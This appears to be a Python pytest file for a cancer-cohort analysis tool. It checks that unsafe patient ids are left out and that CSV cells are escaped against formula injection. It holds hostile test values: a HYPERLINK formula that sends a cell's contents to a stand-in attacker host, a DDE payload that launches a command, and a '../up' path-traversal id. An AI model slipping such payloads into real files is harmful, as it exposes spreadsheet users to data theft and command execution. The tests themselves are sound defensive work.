"""Patient ids from labels follow the id rule; CSV cells never carry formulas (issue #32, item 11).

Before the fix a patient ``=HYPERLINK(...)`` of a labels file landed in predictions.csv (CSV
formula injection) and ``explain`` failed on it; now that patient is left out alone, with a
warning, and any text cell a spreadsheet would run is neutralised.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from steph.config import load_project
from steph.data import load_cohort
from steph.data.cohort import load_split
from steph.fileio import write_csv
from steph.project import init_project

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _raw_csv(path: Path, header: list[str], rows: list[list[object]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header, *rows])


def test_a_patient_id_breaking_the_rule_is_left_out_alone(tmp_path: Path, caplog) -> None:
    layout = init_project(tmp_path / "P", cancers=["BRCA"])
    config = load_project(layout.root)[1]
    ids = [f"TCGA-{i:02d}" for i in range(6)]
    _raw_csv(
        layout.labels("BRCA"),
        ["patient_id", "slide_id", "t", "e"],
        [[pid, f"S{i}", 100 + i, i % 2] for i, pid in enumerate(ids)]
        + [[EVIL, "S9", 50, 1], ["../up", "S8", 5, 0]],
    )
    _raw_csv(layout.split("BRCA", 0), ["train", "test"], [[ids[0], ids[3]], [ids[1], EVIL], [ids[2], ids[4]]])
    cohort = load_cohort(layout, config, "BRCA")
    assert list(cohort.patients) == ids
    assert set(cohort.refused) == {EVIL, "../up"} and "not a safe file name" in cohort.refused[EVIL]
    split = load_split(layout, cohort, 0)
    assert split.test == (ids[3], ids[4]) and "left out" in caplog.text


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("-1.25", "-1.25"),
        ("-inf", "-inf"),
        ("-", "-"),
        ("TCGA-A1", "TCGA-A1"),
    ],
)
def test_csv_cells_never_carry_a_formula(tmp_path: Path, cell: str, written: str) -> None:
    path = write_csv(tmp_path / "x.csv", ["value", "risk"], [[cell, -0.5]])
    with path.open(encoding="utf-8") as fh:
        assert list(csv.reader(fh))[1] == [written, "-0.5"]
